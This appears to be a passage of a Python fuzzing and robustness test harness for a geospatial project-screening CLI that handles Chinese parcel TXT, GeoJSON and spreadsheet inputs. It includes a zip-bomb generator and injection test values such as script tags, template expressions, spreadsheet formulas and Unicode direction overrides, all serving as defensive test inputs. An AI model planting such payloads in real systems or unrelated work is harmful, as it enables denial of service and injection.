                f"{coords(g.exterior)}</coordinates></LinearRing></outerBoundaryIs></Polygon>")

    parts, i = [], 0
    for fi, gs in enumerate(folders):
        pms = []
        for g in gs:
            i += 1
            nm = names[i - 1] if names else name_tpl.format(i=i)
            pms.append(f"<Placemark><name>{nm}</name>{geom(g)}</Placemark>")
        parts.append(f"<Folder><name>folder{fi + 1}</name>{''.join(pms)}</Folder>")
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
            '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>doc</name>'
            + "".join(parts) + "</Document></kml>\n")


def write_gpkg_layers(path: Path, layers: dict):
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists():
        path.unlink()
    for name, frame in layers.items():
        frame.to_file(path, layer=name, driver="GPKG", engine="pyogrio")
    return path


def deflate_bomb(path: Path, member: str, head: bytes, size: int, fill: bytes = b" ",
                 tail: bytes = b"", extra: dict | None = None):
    """A zip whose ``member`` inflates to ``size`` bytes (written streaming, ~1000:1)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in (extra or {}).items():
            zf.writestr(name, data.read_bytes() if isinstance(data, Path) else data)
        with zf.open(member, "w", force_zip64=True) as f:
            f.write(head)
            chunk = fill * (8 << 20)
            left = size - len(head) - len(tail)
            while left > 0:
                n = min(left, len(chunk))
                f.write(chunk[:n])
                left -= n
            f.write(tail)
    return path


# --------------------------------------------------------------------------- 部标 TXT


@dataclass
class TxtParcel:
    rings: list  # [[(northing, easting-with-prefix), …], …] (not closed)
    no: str = "1"
    name: str = "地块1"
    kind: str = "面"
    use: str = "工业用地"
    cls: str = "0601"
    count: str | None = None  # None: the true number of points
    area: str | None = None  # None: the true area in 公顷


@dataclass
class TxtDoc:
    parcels: list
    header: list = field(default_factory=lambda: [
        ("格式版本号", "1.01"), ("数据产生单位", "示例测绘院"), ("数据产生日期", "2026-06-01"),
        ("坐标系", "2000国家大地坐标系"), ("几度分带", "3"), ("投影类型", "高斯克吕格"),
        ("计量单位", "米"), ("带号", "36"), ("精度", "0.001"), ("转换参数", ",,,,,,")])
    prefix: bool = True
    swap: bool = False
    close: bool = True
    decimals: int = 3
    sep: str = ","
    labels: str = "J{j}"
    newline: str = "\n"
    encoding: str = "utf-8"
    bom: bool = False
    fullwidth: bool = False
    blank: bool = False
    text_muts: list = field(default_factory=list)  # fn(text, rng) -> text

    def set(self, key, value):
        for i, (k, _) in enumerate(self.header):
            if k == key:
                if value is None:
                    del self.header[i]
                else:
                    self.header[i] = (k, value)
                return
        if value is not None:
            self.header.append((key, value))

    def render(self, rng=None) -> bytes:
        import shapely

        rng = rng or random.Random(0)
        lines = ["[属性描述]"] + [f"{k}={v}" for k, v in self.header] + ["[地块坐标]"]
        for p in self.parcels:
            npts = sum(len(r) + (1 if self.close else 0) for r in p.rings)
            try:
                area = shapely.Polygon(p.rings[0], p.rings[1:]).area / 1e4 \
                    if p.kind == "面" and len(p.rings[0]) >= 3 else 0.0
            except Exception:  # noqa: BLE001
                area = 0.0
            count = p.count if p.count is not None else str(npts)
            ha = p.area if p.area is not None else f"{area:.4f}"
            lines.append(self.sep.join([count, ha, p.no, p.name, p.kind, "", p.use, p.cls, "@"]))
            if self.blank:
                lines.append("")
            for ri, ring in enumerate(p.rings, start=1):
                pts = list(ring) + ([ring[0]] if self.close and ring else [])
                for j, (n, e) in enumerate(pts, start=1):
                    e2 = e if self.prefix else e - 36_000_000
                    a, b = (e2, n) if self.swap else (n, e2)
                    a = a if isinstance(a, str) else f"{a:.{self.decimals}f}"
                    b = b if isinstance(b, str) else f"{b:.{self.decimals}f}"
                    lines.append(self.sep.join([self.labels.format(j=j), str(ri), a, b]))
        text = self.newline.join(lines) + self.newline
        if self.fullwidth:
            text = text.translate(str.maketrans({",": "，", "=": "＝", "[": "【", "]": "】"}))
        for fn in self.text_muts:
            text = fn(text, rng)
        if isinstance(text, bytes):
            return text
        data = text.encode(self.encoding, errors="replace")
        return (b"\xef\xbb\xbf" + data) if self.bom else data


def txt_rings(g_gk):
    import shapely

    rings = []
    for poly in getattr(g_gk, "geoms", [g_gk]):
        for r in [poly.exterior, *poly.interiors]:
            xy = shapely.get_coordinates(r)[:-1]
            rings.append([(float(y), float(x)) for x, y in xy])
    return rings


def txt_doc(g_gk, **kw) -> TxtDoc:
    return TxtDoc(parcels=[TxtParcel(rings=txt_rings(g_gk))], **kw)


def _tm(fn):  # text mutation helper
    def m(d, rng):
        d.text_muts.append(fn)
    return m


def _hdr(key, values):
    def m(d, rng):
        d.set(key, rng.choice(values))
    return m


def _mut_noprefix(d, rng):
    d.prefix = False
    d.set("带号", "36")


def _mut_reverse(d, rng):
    for p in d.parcels:
        p.rings = [list(reversed(r)) for r in p.rings]


def _mut_junk_header(d, rng):
    junk = ["备注=" + "".join(chr(rng.randint(0x4E00, 0x9FA5)) for _ in range(rng.randint(1, 40))),
            "x=" + "=" * rng.randint(1, 5), "空=", "=无键", "emoji=🗺️🚧", "长=" + "长" * 5000,
            "控制=\x07\x1b[31m", "[备注]=x", "带号 =36", "NUL=a\x00b"]
    for _ in range(rng.randint(1, 4)):
        d.header.insert(rng.randint(0, len(d.header)), tuple(rng.choice(junk).split("=", 1)))


def _mut_reorder(d, rng):
    rng.shuffle(d.header)


def _mut_decimals(d, rng):
    d.decimals = rng.choice([0, 1, 2, 4, 6, 9])


def _mut_labels(d, rng):
    d.labels = rng.choice(["{j}", "点{j}", "J-{j}", "ＪＪ{j}", "", "P_{j}_x", "🙂{j}"])


def _mut_add_clean(before):
    def m(d, rng):
        p = TxtParcel(rings=txt_rings(jitter_box(K.clean_gk, rng)), no="C", name="clean")
        if before:
            d.parcels.insert(0, p)
        else:
            d.parcels.append(p)
    return m


def _mut_add_hole(d, rng):
    import shapely

    p = d.parcels[-1]
    shell = shapely.Polygon([(e, n) for n, e in p.rings[0]])
    c = shell.centroid
    hole = shapely.box(c.x - 2, c.y - 2, c.x + 2, c.y + 2)
    if shell.contains(hole):
        p.rings.append([(y, x) for x, y in list(hole.exterior.coords)[:-1]])


def _mut_count(values):
    def m(d, rng):
        d.parcels[-1].count = rng.choice(values)
    return m


def _mut_area(values):
    def m(d, rng):
        d.parcels[-1].area = rng.choice(values)
    return m


def _mut_coord_junk(d, rng):
    p = d.parcels[-1]
    r = p.rings[0]
    j = rng.randrange(len(r))
    junk = rng.choice(["nan", "NaN", "inf", "-inf", "1e400", "9" * 400, "1e5", "-0", "",
                       "2.95e6", "0x1F", "三百", "１２３４５６７", "٢٩٥٠٠٠٠", "+-1", "1,000.0"])
    n, e = r[j]
    r[j] = (junk, e) if rng.random() < 0.5 else (n, junk)


def _mut_drop_point(d, rng):
    r = d.parcels[-1].rings[0]
    if len(r) > 1:
        del r[rng.randrange(len(r))]


def _mut_dup_points(d, rng):
    r = d.parcels[-1].rings[0]
    d.parcels[-1].rings[0] = [r[0]] * len(r)


def _mut_ring_no(d, rng):
    tok = rng.choice(["0", "99999999999999999999999", "-1", "a", "1.5", "", "１"])
    d.text_muts.append(lambda t, r, tok=tok: re.sub(r"(?m)^(J?\d+),1,", rf"\g<1>,{tok},", t,
                                                                  count=1))


def _mut_kind(d, rng):
    d.parcels[-1].kind = rng.choice(["线", "点", "面面", "", "🙂", "线状", "Polygon", "面 "])


def _mut_garbage_line(d, rng):
    g = rng.choice(["garbage", "J9,1", "J9,1,2,3,4,5", ",,,,", "@", "[", "]", "=", "\x00\x01",
                    "J9 1 2940000 36371000", "J9;1;2940000;36371000", "\ufeffJ1,1,1,1"])
    d.text_muts.append(lambda t, r, g=g: _insert_line(t, g, r))


def _insert_line(text, line, rng):
    lines = text.split("\n")
    i = rng.randint(len(lines) // 2, max(len(lines) // 2, len(lines) - 1))
    lines.insert(i, line)
    return "\n".join(lines)


def _mut_unicode_digits(d, rng):
    table = rng.choice([str.maketrans("0123456789", "０１２３４５６７８９"),
                        str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"),
                        str.maketrans("0123456789", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗")])

    def f(t, r):
        head, _, body = t.partition("[地块坐标]")
        return head + "[地块坐标]" + body.translate(table)
    d.text_muts.append(f)


def _mut_mixed_prefix(d, rng):
    r = d.parcels[-1].rings[0]
    n, e = r[0]
    r[0] = (n, e + 1_000_000)


def _mut_three_cols(d, rng):
    d.text_muts.append(lambda t, r: re.sub(r"(?m)^J\d+,", "", t))


def _mut_truncate(d, rng):
    d.text_muts.append(lambda t, r: t[: r.randint(len(t) // 3, len(t) - 1)])


def _mut_long_line(d, rng):
    d.text_muts.append(lambda t, r: _insert_line(t, "J1,1," + "1" * 1_000_000 + ",2", r))


def _mut_no_section(d, rng):
    d.text_muts.append(lambda t, r: t.replace("[地块坐标]", "", 1).replace("【地块坐标】", "", 1))


def _mut_name_junk(d, rng):
    d.parcels[-1].name = rng.choice(["", "\x00", "\x0b", "[/]", "[bold]红线[/bold]", "a" * 5000,
                                     "名,称", "=1+1", "{{ 7*7 }}", "\u202eevil", "地块@"])


def _mut_encoding(enc):
    def m(d, rng):
        d.encoding = enc
    return m


KEEP = {
    "gbk": _mut_encoding("gbk"), "gb18030": _mut_encoding("gb18030"),
    "bom": lambda d, r: setattr(d, "bom", True), "crlf": lambda d, r: setattr(d, "newline", "\r\n"),
    "cr": lambda d, r: setattr(d, "newline", "\r"), "swap": lambda d, r: setattr(d, "swap", True),
    "noprefix": _mut_noprefix, "fullwidth": lambda d, r: setattr(d, "fullwidth", True),
    "noclose": lambda d, r: setattr(d, "close", False), "reverse": _mut_reverse,
    "spaces": lambda d, r: setattr(d, "sep", r.choice([" , ", ",  ", "\t,", ",\t"])),
    "junkheader": _mut_junk_header, "reorder": _mut_reorder, "decimals": _mut_decimals,
    "blank": lambda d, r: setattr(d, "blank", True), "labels": _mut_labels,
    "clean_after": _mut_add_clean(False), "clean_before": _mut_add_clean(True),
    "no_crs": lambda d, r: d.set("坐标系", None), "no_width": lambda d, r: d.set("几度分带", None),
    "count_wrong": _mut_count(["3", "999", "0"]), "area_m2": _mut_area(["10000", "5000"]),
    "area_mu": _mut_area(["15", "7.5"]), "hole": _mut_add_hole, "name": _mut_name_junk,
    "trailing": _tm(lambda t, r: t.replace("\n", "   \n")),
}
FAIL = {
    "zone": _hdr("带号", ["nan", "inf", "-inf", "1e400", "-36", "36.7", "三十六", "", "0x24",
                          "٣٦", "999999999999999999999", "NaN", "+36"]),
    "count": _mut_count(["nan", "1e400", "inf", "-5", "abc", "", "1e20", "NaN", "5.5"]),
    "area": _mut_area(["nan", "inf", "-1", "1e400", "abc", "1,000", "", "1e-400"]),
    "width": _hdr("几度分带", ["nan", "6", "0", "-3", "1e400", "inf", "abc"]),
    "crs": _hdr("坐标系", ["西安80", "北京54", "WGS84", "<script>", "{{ 7*7 }}", "1980西安坐标系"]),
    "unit": _hdr("计量单位", ["千米", "km", "度", "nan"]),
    "coord": _mut_coord_junk, "drop_point": _mut_drop_point, "dup_points": _mut_dup_points,
    "ring_no": _mut_ring_no, "kind": _mut_kind, "garbage": _mut_garbage_line,
    "digits": _mut_unicode_digits, "mixed_prefix": _mut_mixed_prefix, "three_cols": _mut_three_cols,
    "truncate": _mut_truncate, "long_line": _mut_long_line, "no_section": _mut_no_section,
    "utf16": _mut_encoding("utf-16"),
}


def gen_txt(rng):
    cat = "txt"
    d = WORK.files / "txt"
    base_red = lambda: txt_doc(rand_poly_gk(K.red_gk, rng))  # noqa: E731
    # fixed cases: (id, description, doc or raw bytes, expectation)
    fixed = []

    def fx(cid, desc, doc, expect):
        fixed.append((cid, desc, doc, expect))

    fx("std", "standard 部标 TXT in the red line (control)", base_red(), "hit")
    fx("std-clean", "standard 部标 TXT far from every layer (control)",
       txt_doc(jitter_box(K.clean_gk, rng)), "clean")
    fx("sample-like-gbk", "GBK, prefixed, like seeds/projects/GY-012", txt_doc(K.red_gk,
                                                                                encoding="gbk"), "hit")
    for key in ("nan", "inf", "1e400", "-36", "三十六", ""):
        doc = base_red()
        doc.set("带号", key)
        fx(f"zone-{key or 'empty'}-prefixed", f"header 带号={key!r}, eastings carry the zone prefix",
           doc, "hit|error")
        doc = base_red()
        _mut_noprefix(doc, rng)
        doc.set("带号", key)
        fx(f"zone-{key or 'empty'}-noprefix", f"header 带号={key!r}, eastings without prefix",
           doc, "error")
    for v in ("1e400", "nan", "inf", "-5", "abc", "1e20"):
        doc = base_red()
        doc.parcels[0].count = v
        fx(f"count-{v}", f"界址点数={v!r} in the parcel header", doc, "hit|error")
    for v in ("nan", "inf", "1e400", "-1", "abc"):
        doc = base_red()
        doc.parcels[0].area = v
        fx(f"area-{v}", f"地块面积={v!r} in the parcel header", doc, "hit|error")
    for v in ("nan", "1e400", "0", "6"):
        doc = base_red()
        doc.set("几度分带", v)
        fx(f"width-{v}", f"几度分带={v!r}", doc, "hit|error")
    # one-point 线, two-point 面, 点 parcels
    c = K.red_gk.centroid
    one = TxtDoc(parcels=[TxtParcel(rings=[[(c.y, c.x)]], kind="线")])
    fx("line-1pt", "a 线 parcel with a single point, inside the red line", one, "not_clean|error")
    two = TxtDoc(parcels=[TxtParcel(rings=[[(c.y, c.x), (c.y + 1, c.x + 1)]], kind="面")])
    fx("poly-2pt", "a 面 parcel with two points", two, "not_clean|error")
    pt = TxtDoc(parcels=[TxtParcel(rings=[[(c.y, c.x)]], kind="点")])
    fx("point-1pt", "a 点 parcel with a single point inside the red line", pt, "hit|error")
    col = TxtDoc(parcels=[TxtParcel(rings=[[(c.y, c.x), (c.y + 10, c.x + 10), (c.y + 20, c.x + 20)]])])
    fx("collinear", "a 面 parcel whose three points are collinear, inside the red line", col,
       "not_clean|error")
    line = TxtDoc(parcels=[TxtParcel(rings=[[(c.y - 30, c.x - 30), (c.y + 30, c.x + 30)]],
                                     kind="线")])
    fx("line-in-red", "a 线 parcel inside the red line", line, "hit")
    empty_parcel = base_red()
    empty_parcel.parcels.append(TxtParcel(rings=[], no="2", name="空"))
    fx("empty-parcel", "a second parcel header without coordinates", empty_parcel, "hit|error")
    multi = base_red()
    _mut_add_clean(True)(multi, rng)
    fx("clean-then-red", "two parcels: the first clean, the red-line one second", multi, "hit")
    mix = base_red()
    mix.parcels.append(TxtParcel(rings=[[(c.y, c.x), (c.y + 5, c.x + 5)]], kind="线", no="2"))
    fx("mixed-kinds", "a 面 and a 线 parcel in one file", mix, "hit|error")
    xian = base_red()
    xian.set("坐标系", "1980西安坐标系")
    fx("xian80", "坐标系=1980西安坐标系 (must not be read as CGCS2000)", xian, "error")
    km = base_red()
    km.set("计量单位", "千米")
    fx("unit-km", "计量单位=千米", km, "error")
    fx("empty-file", "an empty file", b"", "error")
    fx("bom-only", "only a UTF-8 BOM", b"\xef\xbb\xbf", "error")
    fx("binary", "random binary bytes", bytes(rng.randrange(256) for _ in range(4096)), "error")
    fx("header-only", "[属性描述] only", "[属性描述]\n带号=36\n".encode(), "error")
    fx("section-only", "[地块坐标] without parcels", "[地块坐标]\n".encode(), "error")
    u16 = base_red()
    u16.encoding = "utf-16"
    fx("utf16", "UTF-16 text", u16, "hit|error")
    big = TxtDoc(parcels=[TxtParcel(rings=txt_rings(rand_poly_gk(K.clean_gk, rng, 20)), no=str(i))
                          for i in range(1, 2001)])
    fx("2000-parcels", "2,000 parcels far from every layer", big, "clean|error")
    import shapely
    circ = shapely.Point(c.x, c.y).buffer(40, quad_segs=20000)
    fx("80k-vertices", "one parcel with 80,000 vertices in the red line", txt_doc(circ), "hit|error")
    holes = base_red()
    fx("deep-ring-no", "ring number 10^30", holes, "hit|error")
    holes.text_muts.append(lambda t, r: re.sub(r"(?m)^(J\d+),1,", r"\1," + "1" * 30 + ",", t))
    secret = base_red()
    secret.text_muts.append(lambda t, r: "SECRET-TXT-LINE-1 top secret\n" + t)
    fx("junk-first-line", "a junk first line before [属性描述]", secret, "hit|error")
    for cid, desc, doc, expect in fixed:
        p = d / f"{cid}.txt"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(doc if isinstance(doc, bytes) else doc.render(rng))
        add_check(f"txt/{cid}", cat, desc, [p], expect,
                  weight=6 if cid in ("80k-vertices", "2000-parcels") else 2)
    # random variants
    keys_keep, keys_fail = sorted(KEEP), sorted(FAIL)
    for i in range(OPTS.n_txt):
        red = rng.random() < 0.8
        doc = txt_doc(rand_poly_gk(K.red_gk if red else K.clean_gk, rng))
        muts = []
        for _ in range(rng.randint(1, 4)):
            if rng.random() < 0.55:
                muts.append(("keep", rng.choice(keys_keep)))
            else:
                muts.append(("fail", rng.choice(keys_fail)))
        for kind, key in muts:
            (KEEP if kind == "keep" else FAIL)[key](doc, rng)
        base = "hit" if red else "clean"
        fails = [k for kind, k in muts if kind == "fail"]
        expect = base if not fails else f"{base}|error"
        if red and "noprefix" in [k for _, k in muts] and "zone" in fails:
            expect = "hit|error"
        p = d / f"random-{i:03d}.txt"
        p.write_bytes(doc.render(rng))
        add_check(f"txt/random-{i:03d}", cat, f"random TXT ({'red line' if red else 'clean'}): "
                  + "+".join(k for _, k in muts), [p], expect)


# --------------------------------------------------------------------------- project-list rows

LIST_COLS = ["项目编号", "项目名称", "wkt", "经度", "纬度", "文件", "坐标系", "坐标类型", "行业代码",
             "建设性质", "是否占地", "有限人为活动类别", "重大项目类别", "项目类型", "年综合能耗"]


@dataclass
class RowCase:
    info: CaseInfo
    row: dict
    expect: str
    k: int | None = None  # template marker in this row
    formula: str | None = None  # formula payload in this row
    secret: str | None = None  # secret the row's file holds
    outside: bool = False  # a status "ok" means a file outside the list folder was read
    not_created: list = field(default_factory=list)
    alone: bool = False  # own list (with two sentinel rows): DoS rows, issue rows
    fmt: str = "csv"
    args: tuple = ()
    uid: str = ""
    dos: bool = False  # may hang: run alone with the short DoS timeout


ROWS: list[RowCase] = []
_uid = iter(range(1, 10 ** 9))


def add_row(cid, category, desc, row, expect, **kw) -> RowCase:
    info = CaseInfo(cid, category, desc, expect)
    r = RowCase(info, dict(row), expect, **kw)
    r.uid = f"ROWID-{next(_uid):05d}"
    if "项目编号" not in r.row:
        r.row["项目编号"] = r.uid
    elif "项目名称" not in r.row:
        r.row["项目名称"] = r.uid
    ROWS.append(r)
    return r


def red_row(rng=None, **kw):
    g = K.to_ll(jitter_box(K.red_gk, rng)) if rng else K.red_ll
    return {"wkt": g.wkt, **kw}


def clean_row(rng=None, **kw):
    g = K.to_ll(jitter_box(K.clean_gk, rng)) if rng else K.clean_ll
    return {"wkt": g.wkt, **kw}


def outside_row(rng=None, **kw):
    g = K.to_ll(jitter_box(K.outside_gk, rng)) if rng else K.outside_ll
    return {"wkt": g.wkt, **kw}


def _csv_field(v) -> str:
    v = "" if v is None else str(v)
    return '"' + v.replace('"', '""') + '"'


def write_list(rows: list[dict], path: Path, fmt="csv", cols=None):
    cols = cols or LIST_COLS
    path.parent.mkdir(parents=True, exist_ok=True)
    if fmt == "csv":
        text = ",".join(cols) + "\n" + "".join(
            ",".join(_csv_field(r.get(c)) for c in cols) + "\n" for r in rows)
        path.write_text(text, "utf-8")
    else:
        from openpyxl import Workbook

        wb = Workbook()
        ws = wb.active
        ws.title = "项目清单"
        ws.append(cols)
        for i, r in enumerate(rows, start=2):
            for j, c in enumerate(cols, start=1):
                v = r.get(c)
                if v is None:
                    continue
                cell = ws.cell(row=i, column=j)
                cell.value = v
                if isinstance(v, str):
                    cell.data_type = "s"  # never let the input itself hold a formula
        wb.save(path)
    return path


_batch_no = iter(range(1, 10 ** 9))
_KEEP_RUNS = [False]


def _xlsx_rows(path: Path):
    """Row numbers (序号) in the 汇总 sheet, or None when the workbook is absent."""
    if not path.exists():
        return None
    from openpyxl import load_workbook

    try:
        ws = load_workbook(path, read_only=True)["汇总"]
    except Exception:  # noqa: BLE001
        return set()
    return {str(r[0]) for r in ws.iter_rows(min_row=2, values_only=True) if r and r[0] is not None}


def _attribute(ev, rows: list[RowCase]):
    by = {r.info.id: [] for r in rows}
    keyed = [r for r in rows if r.k is not None or r.formula or r.secret or r.not_created]
    for key, e in ev:
        hit = [r for r in rows if key is not None and (
            r.k == key or r.formula == key or r.secret == key or key in map(str, r.not_created))]
        if key is None:
            hit = keyed or rows
        for r in hit:
            by[r.info.id].append(e)
    return by


def run_rows(rows: list[RowCase], label: str, fmt="csv", args=(), bisect=True,
             timeout=None) -> dict:
    """Screen ``rows`` (with a red and a clean sentinel row) and judge every row."""
    tag = f"{label}-{next(_batch_no):04d}"
    sent = [RowCase(CaseInfo("sentinel-red", "", ""), red_row(), "hit", uid="SENT-RED"),
            RowCase(CaseInfo("sentinel-clean", "", ""), clean_row(), "clean", uid="SENT-CLEAN")]
    for s in sent:
        s.row["项目编号"] = s.uid
    allrows = [sent[0]] + rows + [sent[1]]
    lst = write_list([r.row for r in allrows], WORK.lists / f"{tag}.{fmt}", fmt)
    out = out_dir(tag)
    run = run_cli(["screen", lst, "--out", out, *args], cwd=WORK.lists, timeout=timeout)
    scan = Scan(markers={r.k: TEMPLATES[r.k % len(TEMPLATES)] for r in rows if r.k is not None},
                secrets=[r.secret for r in rows if r.secret],
                formulas=[r.formula for r in rows if r.formula],
                not_created=[p for r in rows for p in r.not_created])
    ev = _attribute(scan_outputs(scan, run, [out]), rows)
    b = base_outcome(run)
    failed = b is not None or run.rc != 0
    if failed and len(rows) > 1 and bisect:
        half = len(rows) // 2
        res = run_rows(rows[:half], label, fmt, args)
        res.update(run_rows(rows[half:], label, fmt, args))
        for r in rows:  # security evidence of the whole-list run still counts
            if ev[r.info.id] and res[r.info.id][0] != "security":
                res[r.info.id] = (ev_outcome(ev[r.info.id]), "; ".join(ev[r.info.id][:2]), "")
        _cleanup(out, lst)
        return res
    res = {}
    if failed:
        o, why, note = (*b, "") if b else refusal(run, "ok")
        for r in rows:
            if ev[r.info.id]:
                res[r.info.id] = (ev_outcome(ev[r.info.id]), "; ".join(ev[r.info.id][:2]), "")
            elif o == "clear error":
                note = "the whole list was refused because of this row"
                res[r.info.id] = (o, why, note)
            else:
                res[r.info.id] = (o, why, "")
        if not _KEEP_RUNS[0]:
            _cleanup(out, lst)
        return res
    data = parse_json((out / "results.json").read_text("utf-8")) \
        if (out / "results.json").exists() else None
    results = (data or {}).get("results") or []
    xrows = _xlsx_rows(out / "screening.xlsx")
    problems = []
    for pos, r in enumerate(allrows, start=1):
        d = next((x for x in results if r.uid in (str(x.get("project_id")), str(x.get("name")))),
                 None)
        if d is None and len(results) == len(allrows):
            d = results[pos - 1]
        if any(r is s for s in sent):
            if d is None or judge_result(d, r.expect)[0] != "correct":
                problems.append(f"sentinel {r.uid}: " + ("lost" if d is None else
                                                         judge_result(d, r.expect)[1]))
            continue
        if ev[r.info.id]:
            res[r.info.id] = (ev_outcome(ev[r.info.id]), "; ".join(ev[r.info.id][:2]), "")
        elif d is None:
            res[r.info.id] = ("silent wrong", f"row lost: {len(allrows)} rows in, "
                              f"{len(results)} in results.json", "")
        elif xrows is not None and str(d.get("row")) not in xrows:
            res[r.info.id] = ("silent wrong", "row missing from screening.xlsx 汇总", "")
        elif r.outside and d.get("status") == "ok":
            res[r.info.id] = ("security", f"read {r.row.get('文件')!r}, outside the list folder", "")
        else:
            res[r.info.id] = judge_result(d, r.expect)
    if problems:
        for r in rows:
            if res[r.info.id][0] in ("correct", "clear error"):
                res[r.info.id] = ("silent wrong", "another row came out wrong in the same list: "
                                  + "; ".join(problems), "")
    if not _KEEP_RUNS[0] and all(v[0] in ("correct", "clear error") for v in res.values()):
        _cleanup(out, lst)
    return res


def _cleanup(*paths):
    if _KEEP_RUNS[0]:
        return
    for p in paths:
        p = Path(p)
        if p.is_dir():
            shutil.rmtree(p, ignore_errors=True)
        elif p.exists():
            p.unlink()


def row_tasks(batch=40):
    """Turn ROWS into tasks: alone rows one by one, the others in bisected batches."""
    groups: dict = {}
    for r in ROWS:
        if r.alone:
            TASKS.append(Task([r.info], (lambda r=r: run_rows(
                [r], "alone", r.fmt, r.args, bisect=False,
                timeout=OPTS.dos_timeout if r.dos else None)),
                OPTS.dos_timeout if r.dos else 5.0))
        else:
            groups.setdefault((r.info.category, r.fmt, r.args), []).append(r)
    for (cat, fmt, args), rs in groups.items():
        for i in range(0, len(rs), batch):
            chunk = rs[i:i + batch]
            TASKS.append(Task([r.info for r in chunk],
                              (lambda c=chunk, cat=cat, fmt=fmt, args=args:
                               run_rows(c, f"batch-{cat}", fmt, args)), 4.0 + 0.4 * len(chunk)))


# --------------------------------------------------------------------------- geometry


def _wkt_coords(g, fmt="{:.9f}"):
    import shapely

    return ", ".join(f"{fmt.format(x)} {fmt.format(y)}" for x, y in shapely.get_coordinates(g))


def gen_geometry(rng):
    import shapely

    cat = "geometry"
    red, clean = K.red_ll, K.clean_ll
    c_ll = red.centroid
    cg = K.red_gk.centroid

    def gj(name, geoms, **kw):
        return write_geojson(wpath("geometry", name), geoms, **kw)

    add_check("geometry/red-geojson", cat, "red-line box as GeoJSON (control)",
              [gj("red.geojson", [red])], "hit")
    add_check("geometry/clean-geojson", cat, "clean box as GeoJSON (control)",
              [gj("clean.geojson", [clean])], "clean")
    add_check("geometry/red-point", cat, "a point inside the red line",
              [gj("red-point.geojson", [c_ll])], "hit")
    line = K.to_ll(shapely.LineString([(cg.x - 40, cg.y - 40), (cg.x + 40, cg.y + 40)]))
    add_check("geometry/red-line", cat, "a line inside the red line",
              [gj("red-line.geojson", [line])], "hit")
    mp = shapely.MultiPoint([K.clean_ll.centroid, c_ll])
    add_check("geometry/multipoint", cat, "a multipoint: one point clean, one in the red line",
              [gj("multipoint.geojson", [mp])], "hit")
    bow = K.to_ll(shapely.Polygon([(cg.x - 40, cg.y - 40), (cg.x + 40, cg.y + 40),
                                   (cg.x + 40, cg.y - 40), (cg.x - 40, cg.y + 40)]))
    add_check("geometry/bowtie", cat, "a self-intersecting bow-tie in the red line",
              [gj("bowtie.geojson", [bow])], "hit|error")
    col = {"type": "Polygon", "coordinates": [[[c_ll.x, c_ll.y], [c_ll.x + 1e-4, c_ll.y + 1e-4],
                                                [c_ll.x + 2e-4, c_ll.y + 2e-4], [c_ll.x, c_ll.y]]]}
    add_check("geometry/degenerate-collinear", cat,
              "a zero-area polygon (all points collinear) inside the red line (must not read 不涉及)",
              [gj("collinear.geojson", [c_ll], raw_geoms={0: col})], "not_clean|error")
    tiny = shapely.Polygon([(c_ll.x, c_ll.y), (c_ll.x + 1e-9, c_ll.y), (c_ll.x, c_ll.y + 1e-9)])
    add_check("geometry/degenerate-tiny", cat,
              "a 0.1 mm triangle inside the red line (area below --tolerance; must not read 不涉及)",
              [gj("tiny.geojson", [tiny])], "not_clean|error")
    sliver = shapely.Polygon([(c_ll.x, c_ll.y), (c_ll.x + 5e-4, c_ll.y), (c_ll.x + 5e-4,
                              c_ll.y + 1e-10), (c_ll.x, c_ll.y + 1e-10)])
    add_check("geometry/degenerate-sliver", cat, "a 50 m × 0.01 mm sliver inside the red line",
              [gj("sliver.geojson", [sliver])], "not_clean|error")
    zl = {"type": "LineString", "coordinates": [[c_ll.x, c_ll.y], [c_ll.x, c_ll.y]]}
    add_check("geometry/degenerate-zero-line", cat, "a zero-length line inside the red line",
              [gj("zeroline.geojson", [c_ll], raw_geoms={0: zl})], "not_clean|error")
    rep = {"type": "Polygon", "coordinates": [[[c_ll.x, c_ll.y]] * 5]}
    add_check("geometry/degenerate-one-point-ring", cat, "a polygon ring of one repeated point",
              [gj("onepoint.geojson", [c_ll], raw_geoms={0: rep})], "not_clean|error")
    circ = K.to_ll(shapely.Point(cg.x, cg.y).buffer(40, quad_segs=50000))
    add_check("geometry/200k-vertices", cat, "a 200,000-vertex polygon in the red line",
              [gj("200k.geojson", [circ])], "hit|error", weight=8)
    squares = shapely.MultiPolygon([shapely.box(cg.x - 45 + 1.5 * (i % 60), cg.y - 45 + 1.5 * (i // 60),
                                                cg.x - 44.5 + 1.5 * (i % 60),
                                                cg.y - 44.5 + 1.5 * (i // 60)) for i in range(3600)])
    add_check("geometry/3600-parts", cat, "a multipolygon of 3,600 small squares in the red line",
              [gj("3600.geojson", [K.to_ll(squares)])], "hit|error", weight=6)
    box = shapely.box(cg.x - 45, cg.y - 45, cg.x + 45, cg.y + 45)
    holes = [shapely.box(cg.x - 44 + 2.2 * (i % 40), cg.y - 44 + 2.2 * (i // 40),
                         cg.x - 43.5 + 2.2 * (i % 40), cg.y - 43.5 + 2.2 * (i // 40)).exterior
             for i in range(1600)]
    add_check("geometry/1600-holes", cat, "a polygon with 1,600 holes in the red line",
              [gj("holes.geojson", [K.to_ll(shapely.Polygon(box.exterior, holes))])], "hit|error",
              weight=6)
    add_check("geometry/china-sized", cat, "a polygon covering most of China",
              [gj("china.geojson", [shapely.box(75, 18, 134, 53)])], "any", weight=8)
    add_check("geometry/outside-china", cat, "a polygon in the Atlantic",
              [gj("atlantic.geojson", [shapely.box(-30, 10, -29.99, 10.01)])], "error")
    add_check("geometry/straddles-region", cat, "a box across the edge of 贵阳's coverage",
              [gj("straddle.geojson", [K.to_ll(K.region_gk.boundary.interpolate(0.3, normalized=True)
                                                .buffer(300, cap_style=3))])], "any")
    raw = '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},' \
          '"geometry":{"type":"Polygon","coordinates":[[[%s,NaN],[%s,%s],[NaN,%s],[%s,NaN]]]}}]}'
    p = wpath("geometry", "nan.geojson")
    p.write_text(raw % (c_ll.x, c_ll.x + 1e-4, c_ll.y, c_ll.y + 1e-4, c_ll.x))
    add_check("geometry/nan-coords", cat, "GeoJSON with NaN coordinates", [p], "error")
    p = wpath("geometry", "1e400.geojson")
